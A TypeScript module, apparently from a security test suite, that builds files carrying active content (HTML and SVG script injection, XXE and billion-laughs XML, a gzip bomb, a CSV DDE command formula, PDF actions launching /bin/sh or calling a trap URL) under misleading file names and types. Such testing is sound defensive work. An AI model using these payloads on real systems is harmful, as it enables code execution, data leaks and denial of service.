import { gzipSync } from 'node:zlib'
import { type HostileFile, type Trap, trapScript } from './hostile-file.ts'
import { pdfWith } from './pdf.ts'

interface Content {
  bytes: Uint8Array
  extension: string
  type: string
}

const text = (content: string, extension: string, type: string): Content => ({
  bytes: Buffer.from(content, 'utf8'),
  extension,
  type,
})

/** Returns contents that some program executes. None starts like a picture, a video or a PDF. */
function contents(trap: Trap): Record<string, Content> {
  const { url, word } = trap
  const js = trapScript(trap)
  const script = `<script>${js}</script>`
  const page = `<!doctype html><html><body>${script}<img src=x onerror="${js.replaceAll('"', '&quot;')}"></body></html>`
  const svg = (inside: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${attributes}>${inside}</svg>`
  const cdata = `<script><![CDATA[${js}]]></script>`
  const transformation = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>${cdata}</body></html></xsl:template></xsl:stylesheet>`
  const mail = [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="b"; type="text/html"',
    '',
    '--b',
    'Content-Type: text/html',
    `Content-Location: ${url}/page`,
    '',
    page,
    '--b--',
  ].join('\r\n')
  return {
    'an HTML page': text(page, 'html', 'text/html'),
    'an HTML page after blank lines': text(`${'\n '.repeat(400)}${page}`, 'htm', 'text/html'),
    'an HTML page with a byte order mark': text(`\ufeff${page}`, 'html', 'text/html'),
    'an HTML page in UTF-16': {
      ...text('', 'html', 'text/html; charset=utf-16'),
      bytes: Buffer.from(`\ufeff${page}`, 'utf16le'),
    },
    'an HTML page in UTF-7': text(
      page.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
      'html',
      'text/html; charset=utf-7',
    ),
    'an HTML page that redirects': text(
      `<meta http-equiv="refresh" content="0;url=${url}/redirect">`,
      'html',
      'text/html',
    ),
    'an HTML page with a form that submits itself': text(
      `<form action="${url}/form" id="f"></form><script>f.submit()</script>`,
      'html',
      'text/html',
    ),
    'an HTML page with a base URL': text(
      `<base href="${url}/"><link rel="stylesheet" href="style"><script src="script"></script>`,
      'html',
      'text/html',
    ),
    'an HTML page that prefetches': text(
      `<link rel="dns-prefetch" href="${url}"><link rel="preload" as="image" href="${url}/preload">`,
      'html',
      'text/html',
    ),
    'an HTML page after a comment': text(`<!-- a note -->${page}`, 'txt', 'text/plain'),
    'an XHTML page': text(
      `<html xmlns="http://www.w3.org/1999/xhtml"><body>${cdata}</body></html>`,
      'xhtml',
      'application/xhtml+xml',
    ),
    'an SVG with a script': text(svg(cdata), 'svg', 'image/svg+xml'),
    'an SVG with a script that runs when it loads': text(
      svg('', ` onload="${js.replaceAll('"', '&quot;')}"`),
      'svg',
      'image/svg+xml',
    ),
    'an SVG with embedded HTML': text(
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${cdata}</body></foreignObject>`,
      ),
      'svg',
      'image/svg+xml',
    ),
    'an SVG that loads other files': text(
      svg(
        `<image href="${url}/drawing"/><use xlink:href="${url}/use#a"/><style>@import "${url}/import"</style>`,
      ),
      'svg',
      'image/svg+xml',
    ),
    'an SVG with an animated link': text(
      svg(
        `<a><animate attributeName="href" values="javascript:${js.replaceAll('"', '&quot;')}"/><text>x</text></a>`,
      ),
      'svg',
      'image/svg+xml',
    ),
    'an SVG with an external entity': text(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]>${svg('<text>&x;</text>')}`,
      'svg',
      'image/svg+xml',
    ),
    'a compressed SVG': { bytes: gzipSync(svg(cdata)), extension: 'svgz', type: 'image/svg+xml' },
    'XML with an embedded XSLT stylesheet': text(
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#t"?><d><x id="t">${transformation}</x></d>`,
      'xml',
      'text/xml',
    ),
    'XML with an external XSLT stylesheet': text(
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}/style.xsl"?><d/>`,
      'xml',
      'application/xml',
    ),
    'XML with an external CSS stylesheet': text(
      `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${url}/style.css"?><d/>`,
      'xml',
      'text/xml',
    ),
    'an XSLT stylesheet': text(`<?xml version="1.0"?>${transformation}`, 'xsl', 'text/xsl'),
    'XML with exponential entity expansion': text(
      `<!DOCTYPE d [<!ENTITY a "ha">${'bcdefghij'
        .split('')
        .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
        .join('')}]><d>&j;</d>`,
      'xml',
      'text/xml',
    ),
    'a MathML formula': text(
      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${word}"><maction actiontype="statusline" href="javascript:${word}">x</maction></math>`,
      'mml',
      'application/mathml+xml',
    ),
    'an RSS feed': text(
      `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><description><![CDATA[${script}]]></description></item></channel></rss>`,
      'rss',
      'application/rss+xml',
    ),
    'an MHTML archive': text(mail, 'mhtml', 'multipart/related'),
    'an e-mail with an HTML page': text(mail, 'eml', 'message/rfc822'),
    'a multipart/x-mixed-replace body': text(
      `--b\r\nContent-Type: text/html\r\n\r\n${page}\r\n--b--`,
      'bin',
      'multipart/x-mixed-replace; boundary=b',
    ),
    'a JavaScript file': text(js, 'js', 'text/javascript'),
    'a JavaScript module': text(`export default 1;${js}`, 'mjs', 'application/javascript'),
    'a script that looks like JSON': text(`[1];${js}`, 'json', 'application/json'),
    'a worker script': text(`self.onmessage=()=>{};${js}`, 'js', 'application/x-javascript'),
    'an import map': text(`{"imports":{"x":"${url}/map"}}`, 'importmap', 'application/importmap+json'),
    'a WebAssembly module': {
      bytes: Buffer.from('0061736d01000000', 'hex'),
      extension: 'wasm',
      type: 'application/wasm',
    },
    'a stylesheet': text(`@import "${url}/import";*{background:url(${url}/background)}`, 'css', 'text/css'),
    'an HTML component': text(`<PUBLIC:COMPONENT>${script}</PUBLIC:COMPONENT>`, 'htc', 'text/x-component'),
    'an HTML application': text(page, 'hta', 'application/hta'),
    'a Flash file': text(`FWS\x09${word}`, 'swf', 'application/x-shockwave-flash'),
    'a Java class': {
      bytes: Buffer.from('cafebabe00000034', 'hex'),
      extension: 'class',
      type: 'application/java-vm',
    },
    'a signed exchange': text(`sxg1-b3\0\0\0${page}`, 'sxg', 'application/signed-exchange;v=b3'),
    'a web bundle': {
      bytes: Buffer.concat([Buffer.from('8548f09f8c90f09f93a6', 'hex'), Buffer.from(page)]),
      extension: 'wbn',
      type: 'application/webbundle',
    },
    'a web app manifest': text(
      `{"start_url":"${url}/start","icons":[{"src":"${url}/icon"}]}`,
      'webmanifest',
      'application/manifest+json',
    ),
    'an HLS playlist': text(`#EXTM3U\n${url}/film.ts\n`, 'm3u8', 'application/vnd.apple.mpegurl'),
    subtitles: text(`WEBVTT\n\n00:00.000 --> 00:01.000\n${script}`, 'vtt', 'text/vtt'),
    'a shortcut': text(`[InternetShortcut]\nURL=${url}/link`, 'url', 'application/internet-shortcut'),
    'a CSV file with formulas': text(`=cmd|' /C calc'!A0,=HYPERLINK("${url}/table")`, 'csv', 'text/csv'),
    'a gzip file that unpacks to a thousand times its size': {
      bytes: gzipSync(Buffer.alloc(20_000_000)),
      extension: 'gz',
      type: 'application/gzip',
    },
    'a compressed HTML page': { bytes: gzipSync(page), extension: 'html', type: 'text/html' },
    'a PDF after an HTML page': {
      bytes: Buffer.concat([Buffer.from(page), pdfWith('<</S/JavaScript/JS(app.alert(1))>>')]),
      extension: 'pdf',
      type: 'application/pdf',
    },
    'an empty file': text('', 'html', 'text/html'),
  }
}

/** Returns each content with its real file name and type, and with three misleading ones. */
export function activeContent(trap: Trap): HostileFile[] {
  const handling = 'saved' as const
  return Object.entries(contents(trap)).flatMap(([title, { bytes, extension, type }]) => [
    { title, bytes, fileName: `file.${extension}`, contentType: type, handling },
    { title: `${title} as a picture`, bytes, fileName: 'file.png', contentType: 'image/png', handling },
    { title: `${title} as a text`, bytes, fileName: 'file.txt', contentType: type, handling },
    { title: `${title} without extension`, bytes, fileName: 'file', contentType: type, handling },
  ])
}

/**
 * Returns PDF files with actions that run when they are opened. Browsers show them in a built-in
 * viewer.
 */
export function activeDocuments({ url, word }: Trap): HostileFile[] {
  const actions: Record<string, string> = {
    'a PDF that shows a dialog': `<</S/JavaScript/JS(app.alert\\('${word}'\\))>>`,
    'a PDF that opens a page': `<</S/JavaScript/JS(app.launchURL\\('${url}/launch', true\\))>>`,
    'a PDF that submits a form': `<</S/JavaScript/JS(this.submitForm\\('${url}/submit'\\))>>`,
    'a PDF that opens a javascript: URL': `<</S/JavaScript/JS(this.getURL\\('javascript:${word}'\\))>>`,
    'a PDF that follows a link': `<</S/URI/URI(${url}/uri)>>`,
    'a PDF that links to a javascript: URL': `<</S/URI/URI(javascript:alert\\('${word}'\\))>>`,
    'a PDF that starts a program': '<</S/Launch/F(/bin/sh)>>',
    'a PDF that opens another PDF': `<</S/GoToR/F(${url}/other.pdf)/D[0/Fit]>>`,
  }
  return Object.entries(actions).map(([title, action]) => ({
    title,
    bytes: pdfWith(action),
    fileName: 'file.pdf',
    contentType: 'application/pdf',
    handling: 'shown',
    mayShowDialog: action.includes('app.alert'),
  }))
}
